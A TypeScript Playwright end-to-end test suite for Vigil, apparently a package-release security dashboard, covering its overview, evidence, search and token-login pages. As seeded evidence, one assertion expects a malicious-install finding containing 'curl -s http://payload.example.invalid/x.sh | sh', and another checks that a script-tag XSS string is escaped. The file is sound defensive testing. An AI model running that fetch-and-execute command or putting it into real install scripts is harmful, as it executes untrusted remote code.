/**
 * The dashboard in a real headless Chromium (Debian `chromium`, driven by playwright-core): overview,
 * navigation to a release's evidence, search, and a screenshot check. Skips (with a message) only when
 * no Chromium binary is installed.
 */
import assert from 'node:assert/strict';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { chromium } from 'playwright-core';
import { XSS, seededDashboard } from './seed.js';

const CANDIDATES = [process.env.VIGIL_CHROMIUM, '/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'];
const executablePath = CANDIDATES.find((p): p is string => p !== undefined && p !== '' && existsSync(p));
const ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];

/** Width and height from a PNG's IHDR chunk. */
function pngSize(png: Buffer): { width: number; height: number } {
  assert.deepEqual([...png.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 'PNG signature');
  assert.equal(png.subarray(12, 16).toString('latin1'), 'IHDR');
  return { width: png.readUInt32BE(16), height: png.readUInt32BE(20) };
}

test('dashboard end to end in headless Chromium', { timeout: 90_000, skip: executablePath === undefined ? 'Chromium not installed (apt-get install chromium); dashboard e2e skipped' : false }, async () => {
  const served = await seededDashboard('vigil-e2e-');
  const { dir, dash } = served;
  const browser = await chromium.launch({ executablePath: executablePath ?? '', args: ARGS, timeout: 60_000 });
  try {
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    const consoleErrors: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'error') consoleErrors.push(m.text());
    });
    await page.goto(`${dash.url}/`, { waitUntil: 'load' });
    assert.equal(await page.title(), 'Overview · Vigil');
    await page.getByRole('heading', { name: 'Watched projects' }).waitFor({ state: 'visible' });
    assert.ok(await page.getByRole('link', { name: 'shop-frontend' }).isVisible());
    assert.ok(await page.getByText('3 scanned releases').isVisible());
    // Hostile text renders as text: visible, and nothing executed.
    assert.ok((await page.locator('body').innerText()).includes('<script>alert("x")</script>'));
    assert.equal(await page.locator('script').count(), 0);

    const png = await page.screenshot({ fullPage: true });
    const shot = join(dir, 'overview.png');
    writeFileSync(shot, png);
    if (process.env.VIGIL_E2E_SCREENSHOT !== undefined) writeFileSync(process.env.VIGIL_E2E_SCREENSHOT, png);
    const size = pngSize(png);
    assert.equal(size.width, 1280);
    assert.ok(size.height >= 600 && size.height < 20_000, `height ${size.height}`);
    assert.ok(png.byteLength > 20_000, `a rendered page, not a blank one (${png.byteLength} bytes)`);

    // Follow the alert's evidence link to the release page.
    await page.getByRole('link', { name: 'evidence' }).first().click();
    await page.waitForURL(/\/release\/npm\/evil-pkg\/0\.0\.9$/);
    await page.getByRole('heading', { name: /evil-pkg@0\.0\.9/ }).waitFor();
    assert.ok(await page.getByText('npm/install-script-download').first().isVisible());
    assert.ok(await page.locator('pre', { hasText: 'curl -s http://payload.example.invalid/x.sh | sh' }).isVisible());
    assert.ok(await page.getByText('finding(s) are new in this release').isVisible());

    // Search by package from the header form.
    await page.getByRole('searchbox', { name: 'Search packages' }).fill('requests');
    await page.getByRole('button', { name: 'Search' }).click();
    await page.waitForURL(/\/releases\?q=requests$/);
    assert.ok(await page.getByRole('link', { name: 'requests-helper@0.4.2' }).isVisible());
    assert.equal(await page.getByRole('link', { name: 'evil-pkg@0.0.9' }).count(), 0);

    assert.deepEqual(dialogs, [], `no script ran: ${XSS}`);
    assert.deepEqual(consoleErrors, []);
  } finally {
    await browser.close();
    await served.close();
  }
});

test('dashboard with a token: log in through the form, browse, log out (headless Chromium)', { timeout: 90_000, skip: executablePath === undefined ? 'Chromium not installed (apt-get install chromium); dashboard e2e skipped' : false }, async () => {
  const token = 'e2e-token-7b1d9c0a4f2e6358';
  const served = await seededDashboard('vigil-e2e-auth-', { token });
  const { dash } = served;
  const browser = await chromium.launch({ executablePath: executablePath ?? '', args: ARGS, timeout: 60_000 });
  try {
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    const consoleErrors: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'error' && !/401 \(Unauthorized\)/.test(m.text())) consoleErrors.push(m.text());
    });
    // A deep link without a session shows the login form (401), and nothing of the data.
    const first = await page.goto(`${dash.url}/releases?q=evil`, { waitUntil: 'load' });
    assert.equal(first?.status(), 401);
    assert.equal(await page.title(), 'Log in · Vigil');
    assert.equal(await page.getByText('evil-pkg@0.0.9').count(), 0);
    const png = await page.screenshot({ fullPage: true });
    if (process.env.VIGIL_E2E_LOGIN_SCREENSHOT !== undefined) writeFileSync(process.env.VIGIL_E2E_LOGIN_SCREENSHOT, png);
    // The stylesheet is allowed by its CSP hash: the header bar is painted dark, not left unstyled.
    // (The callback runs in the page; no DOM types in this Node project, hence the global lookup.)
    const headerColour = await page.locator('header').evaluate((el) => {
      const g = globalThis as unknown as { getComputedStyle(e: unknown): { backgroundColor: string } };
      return g.getComputedStyle(el).backgroundColor;
    });
    assert.equal(headerColour, 'rgb(32, 32, 58)');

    await page.getByLabel('Access token').fill('not-the-token-at-all');
    await page.getByRole('button', { name: 'Log in' }).click();
    await page.getByRole('alert').filter({ hasText: 'Wrong token.' }).waitFor();

    await page.getByLabel('Access token').fill(token);
    await page.getByRole('button', { name: 'Log in' }).click();
    await page.waitForURL(/\/\?q=evil$|\/releases\?q=evil$/);
    assert.match(page.url(), /\/releases\?q=evil$/, 'back to the page asked for');
    assert.ok(await page.getByRole('link', { name: 'evil-pkg@0.0.9' }).isVisible());
    const cookies = await page.context().cookies();
    assert.deepEqual(cookies.map((c) => [c.name, c.httpOnly, c.sameSite]), [['vigil_session', true, 'Strict']]);
    assert.ok(!cookies[0]?.value.includes(token));

    // Navigation keeps the session; then log out.
    await page.getByRole('link', { name: 'Alerts' }).click();
    await page.waitForURL(/\/alerts$/);
    assert.ok(await page.getByText('you use 0.0.8').first().isVisible());
    await page.getByRole('button', { name: 'Log out' }).click();
    await page.waitForURL(/\/login$/);
    assert.equal((await page.goto(`${dash.url}/`, { waitUntil: 'load' }))?.status(), 401);
    assert.equal(await page.title(), 'Log in · Vigil');
    assert.deepEqual(consoleErrors, []);
  } finally {
    await browser.close();
    await served.close();
  }
});
